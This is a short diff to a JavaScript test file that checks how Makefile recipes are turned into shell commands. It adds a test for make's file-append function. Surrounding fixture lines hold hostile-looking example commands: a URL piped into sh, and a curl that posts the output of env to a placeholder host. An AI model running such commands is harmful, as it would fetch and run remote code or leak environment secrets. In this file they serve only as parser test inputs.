@@ -95,6 +95,11 @@ describe('recipesOf', () => {
       ),
       ['one https://a.invalid | sh', 'two', 'three'],
     ));
+  it('writes what it writes while it is read, as a shell does', () =>
+    assert.deepEqual(
+      run('make', 'Makefile', "RC := rc\n$(file >>$(RC),it's (one),two)\nall:\n\t@:\n")[0],
+      `printf '%s\\n' 'it'\\''s (one),two' >> "rc"`,
+    ));
   it('leaves to the shell what is the shell’s', () =>
     assert.deepEqual(run('make', 'Makefile', 'all:\n\tcurl -d "$$(env)" https://a.invalid/$(USER)\n'), [
       'curl -d "$(env)" https://a.invalid/${USER}',
